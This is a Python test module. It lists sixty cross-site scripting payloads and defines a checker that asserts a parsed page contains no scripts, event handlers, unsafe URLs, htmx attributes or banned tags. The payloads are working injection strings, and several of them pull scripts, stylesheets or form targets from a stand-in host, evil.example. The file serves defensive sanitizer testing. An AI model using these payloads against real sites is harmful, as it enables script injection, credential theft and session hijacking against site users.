"""Sixty texts that have become scripts elsewhere, and what a page with them must not hold."""

import re

PAYLOADS = [
    # Elements that run.
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example/><button>Send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    # Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerenter=alert(1) style=position:fixed;inset:0>x</div>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<img src=x onerror\n=alert(1)>",
    "<img\tsrc=x\x0conerror=alert(1)>",
    # Out of an attribute, a text area, a title, a comment, a cut of the page.
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<!-- cut --><script>alert(1)</script><!-- cut -->",
    "</noscript><script>alert(1)</script>",
    # What becomes something else when it is read twice.
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    # Links of Markdown.
    "[x](javascript:alert(1))",
    "[x](JaVa\tScRiPt:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '[x](https://a.example "onmouseover=alert(1)")',
    # Words of htmx, and of Django's templates.
    "<div hx-get=/users/logout/ hx-trigger=load></div>",
    "<div data-hx-on:load=alert(1) hx-on::load=alert(1)>x</div>",
    "<hx-partial hx-target=body><script>alert(1)</script></hx-partial>",
    "{{ request.user.password }}{% include 'x' %}{{''.__class__}}",
]

# What a page of ours never holds, or not without a nonce.
_TAGS = {
    *("iframe", "object", "embed", "base", "style", "template", "marquee", "audio", "video"),
    *("x", "hx-partial", "animate", "frame", "frameset", "applet", "noembed", "xmp"),
}
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
_SAFE = re.compile(r"(https?:|mailto:|/(?!/)|#|\?|$)", re.IGNORECASE)


def check_inert(root, nonce=""):
    """Check that nothing on the page runs, loads or sends but what is our own."""
    for element in root.iter():
        assert element.tag not in _TAGS, element.tag
        for name, value in element.attrib.items():
            assert not re.match(r"on|srcdoc|style$|data-hx|hx-on", name), f"{name}={value}"
            if name in _ADDRESSES:
                assert _SAFE.match(value), f"{name}={value}"
                is_link = element.tag == "a"
                assert is_link or not re.match("https?:", value), f"<{element.tag} {name}={value}>"
            if name.startswith("hx-"):
                assert nonce, f"{name}={value} in a fragment"
                assert element.get("hx-nonce") == nonce
        if element.tag == "script":
            assert element.get("nonce") == nonce != ""
            assert element.get("src", "").startswith("/static/")
            assert not element.text
        if element.tag == "meta":
            assert "http-equiv" not in element.attrib
        if element.tag == "link":
            assert element.get("href").startswith(("/static/", "/favicon"))
        if element.tag == "form":
            assert element.get("action", "/").startswith(("/", "?"))
